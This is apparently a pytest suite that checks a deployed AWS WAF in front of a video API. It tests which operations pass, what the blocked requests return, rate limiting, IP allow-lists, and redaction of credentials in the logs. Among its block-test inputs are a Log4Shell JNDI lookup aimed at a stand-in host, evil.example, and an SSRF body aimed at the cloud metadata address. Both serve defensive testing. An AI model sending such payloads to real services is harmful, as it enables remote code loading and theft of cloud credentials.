"""The product's own firewall, deployed and evaluated: what it lets through, what it says, what it logs."""

import json
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest

from pictory_egress.api import OPERATIONS

if TYPE_CHECKING:
    from tests.sandbox_front.backend import Backend
    from tests.sandbox_front.conftest import Door
    from tests.sandbox_front.deploying import World


def test_web_acl_comes_back_from_the_local_aws_as_it_was_deployed(protected: "World") -> None:
    acl = protected.clients.wafv2.get_web_acl_for_resource(ResourceArn=protected.load_balancer)["WebACL"]
    names = [rule["Name"] for rule in acl["Rules"]]
    assert names[0] == "source-not-allowed"
    assert names[-1] == "known-operation"
    allowed = acl["Rules"][-1]["Statement"]["OrStatement"]["Statements"]
    first = allowed[0]["AndStatement"]["Statements"][0]["ByteMatchStatement"]
    assert first["SearchString"] in (b"GET", b"DELETE", b"POST", b"PUT")


@pytest.mark.parametrize("operation", OPERATIONS, ids=lambda operation: operation.id)
def test_operation_of_the_catalog_is_let_through(door: "Door", operation: Any) -> None:
    body = b'{"a": 1}' if operation.max_body_bytes else None
    headers = {"Content-Type": operation.content_type} if body else {}
    answer = door.call(operation.method, operation.example_path(), body=body, headers=headers)
    assert answer.status == 200, answer.body


@pytest.mark.parametrize(
    ("method", "path", "headers", "status", "code"),
    [
        ("GET", "/pictoryapis/v1/quota", {"Authorization": None}, 401, "credential_missing"),
        ("GET", "/pictoryapis/v1/quota", {"Authorization": ""}, 401, "credential_missing"),
        ("GET", "/pictoryapis/v1/admin", {}, 403, "operation_unknown"),
        ("PATCH", "/pictoryapis/v1/quota", {}, 403, "operation_unknown"),
        ("GET", "/pictoryapis/v1/quota/", {}, 403, "operation_unknown"),
        ("GET", "/", {}, 403, "operation_unknown"),
        ("GET", "/pictoryapis/v1/quota", {"X-Amzn-Waf-Label": "x"}, 403, "firewall_blocked"),
        ("POST", "/pictoryapis/v1/templates", {"Content-Length": "99999999"}, 413, "body_too_large"),
    ],
)
def test_request_that_a_rule_refuses_gets_that_rules_answer(
    door: "Door",
    backends: "list[Backend]",
    method: str,
    path: str,
    headers: dict[str, str | None],
    status: int,
    code: str,
) -> None:
    body = b"x" * 10_000 if "Content-Length" in headers else None
    answer = door.call(method, path, headers=headers, body=body)
    assert (answer.status, answer.json["code"]) == (status, code)
    assert answer.headers["server"] == "awselb/2.0"
    assert answer.headers["x-pictory-egress-reason"] == code
    assert answer.json["request_id"] is None
    assert sum(backend.served for backend in backends) == 0


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        ({"User-Agent": None}, None),
        ({"X-Any": "${jndi:ldap://evil.example/a}"}, None),
        ({"Host": "localhost"}, None),
        ({}, b'{"url": "http://169.254.169.254/latest/meta-data/"}'),
    ],
)
def test_request_that_a_managed_group_blocks_gets_a_bare_403(
    door: "Door", headers: dict[str, str | None], body: bytes | None
) -> None:
    method, path = ("POST", "/pictoryapis/v2/video/storyboard") if body else ("GET", "/pictoryapis/v1/quota")
    answer = door.call(method, path, headers=headers, body=body)
    assert (answer.status, answer.headers["content-type"].split(";")[0]) == (403, "text/html")
    assert answer.headers["server"] == "awselb/2.0"
    assert "x-pictory-egress-reason" not in answer.headers


def test_body_beyond_inspection_passes_only_where_the_operation_needs_it(door: "Door") -> None:
    body = json.dumps({"story": "word " * 4_000}).encode()
    assert len(body) > 8_192
    assert door.call("POST", "/pictoryapis/v2/video/storyboard", body=body).status == 200
    refused = door.call("DELETE", "/pictoryapis/v2/projects/abc", body=body)
    assert (refused.status, refused.json["code"]) == (413, "body_too_large")


def test_credential_that_calls_too_often_is_limited_alone(door: "Door") -> None:
    statuses = [door.call(headers={"Authorization": "busy"}).status for _ in range(41)]
    assert (set(statuses[:40]), statuses[40]) == ({200}, 429)
    assert door.call(headers={"Authorization": "calm"}).status == 200


def test_source_outside_the_allowed_ranges_is_blocked(
    protected: "World", backends: "list[Backend]", open_door: "Callable[[World], Door]"
) -> None:
    wafv2 = protected.clients.wafv2
    summary = next(s for s in wafv2.list_ip_sets(Scope="REGIONAL")["IPSets"] if s["Name"] == protected.name)
    wafv2.update_ip_set(
        Name=summary["Name"], Id=summary["Id"], Scope="REGIONAL", Addresses=["10.0.0.0/8"],
        LockToken=summary["LockToken"],
    )  # fmt: skip
    answer = open_door(protected).call()
    assert (answer.status, answer.json["code"]) == (403, "firewall_blocked")


def test_decisions_are_logged_without_credentials_and_queries(
    door: "Door", log_records: Callable[[], list[dict[str, Any]]]
) -> None:
    secret = "a-credential-of-a-caller"
    door.call("GET", "/pictoryapis/v1/jobs?nextPageKey=private", headers={"Authorization": secret})
    door.call("GET", "/pictoryapis/v1/nothing", headers={"Authorization": secret, "Cookie": "c=private"})
    records = log_records()
    assert [(each["action"], each["terminatingRuleId"]) for each in records] == [
        ("ALLOW", "known-operation"), ("BLOCK", "Default_Action"),
    ]  # fmt: skip
    text = json.dumps(records)
    assert secret not in text
    assert "private" not in text
    request = records[0]["httpRequest"]
    assert (request["args"], request["uri"], request["httpMethod"]) == (
        "REDACTED",
        "/pictoryapis/v1/jobs",
        "GET",
    )
    assert {"name": "Authorization", "value": "REDACTED"} in request["headers"]
    assert records[1]["responseCodeSent"] == 403


def test_counted_rules_and_labels_are_logged(
    door: "Door", log_records: Callable[[], list[dict[str, Any]]]
) -> None:
    door.call("POST", "/pictoryapis/v2/video/storyboard", body=b"x" * 9_000)
    (record,) = log_records()
    assert record["labels"] == [{"name": "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"}]
    (group,) = record["ruleGroupList"]
    assert group["ruleGroupId"] == "AWS#AWSManagedRulesCommonRuleSet"
    assert group["nonTerminatingMatchingRules"] == [{"ruleId": "SizeRestrictions_BODY", "action": "COUNT"}]


def test_blocked_requests_are_published_for_the_alarm(door: "Door", protected: "World") -> None:
    door.call("GET", "/pictoryapis/v1/nothing")
    door.loop.run(door.front.stop())
    metrics = protected.clients.cloudwatch.list_metrics(Namespace="AWS/WAFV2", MetricName="BlockedRequests")
    wanted = [
        {"Name": "WebACL", "Value": protected.name}, {"Name": "Rule", "Value": "ALL"},
        {"Name": "Region", "Value": "us-east-2"},
    ]  # fmt: skip
    assert wanted in [metric["Dimensions"] for metric in metrics["Metrics"]]
